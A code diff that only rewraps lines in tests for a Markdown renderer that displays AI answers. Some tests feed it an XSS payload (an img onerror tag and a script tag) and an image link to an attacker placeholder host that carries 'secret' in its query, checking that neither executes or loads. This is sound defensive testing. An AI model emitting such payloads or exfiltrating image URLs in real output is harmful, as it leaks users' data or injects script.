@@ -10,7 +10,11 @@ beforeAll(async () => {
 
 describe('Markdown', () => {
   it('renders GFM: headings, tables, task lists and code', async () => {
-    const { container } = render(<Markdown text={'## Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n```ts\nconst x = 1;\n```'} />);
+    const { container } = render(
+      <Markdown
+        text={'## Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n```ts\nconst x = 1;\n```'}
+      />,
+    );
     expect(await screen.findByRole('heading', { level: 2, name: 'Title' })).toBeInTheDocument();
     expect(screen.getByRole('table')).toBeInTheDocument();
     expect(screen.getAllByRole('checkbox')).toHaveLength(2);
@@ -25,7 +29,9 @@ describe('Markdown', () => {
   });
 
   it('shows raw HTML as nothing executable', async () => {
-    const { container } = render(<Markdown text={'before <img src=x onerror="alert(1)"> <script>alert(2)</script> after'} />);
+    const { container } = render(
+      <Markdown text={'before <img src=x onerror="alert(1)"> <script>alert(2)</script> after'} />,
+    );
     await waitFor(() => expect(container.querySelector('p')).not.toBeNull());
     expect(container.querySelector('img')).toBeNull();
     expect(container.querySelector('script')).toBeNull();
@@ -52,7 +58,10 @@ describe('Markdown', () => {
 
   it('never loads images from an answer; it offers a link instead', async () => {
     const { container } = render(<Markdown text={'![chart](https://attacker.example/p.png?d=secret)'} />);
-    expect(await screen.findByRole('link', { name: '[Image: chart]' })).toHaveAttribute('href', 'https://attacker.example/p.png?d=secret');
+    expect(await screen.findByRole('link', { name: '[Image: chart]' })).toHaveAttribute(
+      'href',
+      'https://attacker.example/p.png?d=secret',
+    );
     expect(container.querySelector('img')).toBeNull();
   });
 });
@@ -105,7 +114,8 @@ describe('a finished answer', () => {
 });
 
 describe('finishing an answer without definitions', () => {
-  const answer = '# Plan\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst answer = 42;\n```\n\n> quoted *words*\n\n- [x] done\n- [ ] open\n\nDone ~~now~~.';
+  const answer =
+    '# Plan\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst answer = 42;\n```\n\n> quoted *words*\n\n- [x] done\n- [ ] open\n\nDone ~~now~~.';
 
   it('keeps the elements it streamed and only highlights its code', async () => {
     const { container, rerender } = render(<AnswerMarkdown text={answer} streaming />);
@@ -115,7 +125,9 @@ describe('finishing an answer without definitions', () => {
     rerender(<AnswerMarkdown text={answer} />);
     expect(screen.getByRole('heading', { name: 'Plan' })).toBe(heading);
     expect(screen.getByRole('table')).toBe(table);
-    await waitFor(() => expect(container.querySelectorAll('pre code span').length).toBeGreaterThan(2), { timeout: 10_000 });
+    await waitFor(() => expect(container.querySelectorAll('pre code span').length).toBeGreaterThan(2), {
+      timeout: 10_000,
+    });
     expect(container.querySelector('pre')?.textContent).toBe('const answer = 42;');
   });
 
@@ -124,12 +136,17 @@ describe('finishing an answer without definitions', () => {
     const markupOf = (element: Element) => {
       const copy = element.cloneNode(true) as Element;
       for (const group of copy.querySelectorAll('.markdown-group')) group.replaceWith(...group.childNodes);
-      for (const node of [...(copy.querySelector('.markdown')?.childNodes ?? [])]) if (node.nodeType === Node.TEXT_NODE && node.textContent?.trim() === '') node.remove();
+      for (const node of [...(copy.querySelector('.markdown')?.childNodes ?? [])])
+        if (node.nodeType === Node.TEXT_NODE && node.textContent?.trim() === '') node.remove();
       for (const code of copy.querySelectorAll('pre code')) code.replaceChildren(code.textContent ?? '');
       for (const code of copy.querySelectorAll('pre code')) code.removeAttribute('class');
       return copy.innerHTML;
     };
-    const texts = [answer, `Intro\n\n${Array.from({ length: 80 }, (_, index) => `${index + 1}. item *${index}*\n\n   more of it`).join('\n')}\n\nEnd`, '```\nfence\n\nstill\n```\n\n    indented\n\n***\n\nSetext\n======'];
+    const texts = [
+      answer,
+      `Intro\n\n${Array.from({ length: 80 }, (_, index) => `${index + 1}. item *${index}*\n\n   more of it`).join('\n')}\n\nEnd`,
+      '```\nfence\n\nstill\n```\n\n    indented\n\n***\n\nSetext\n======',
+    ];
     for (const text of texts) {
       const whole = render(<Markdown text={text} />);
       const blocks = render(<AnswerMarkdown text={text} />);
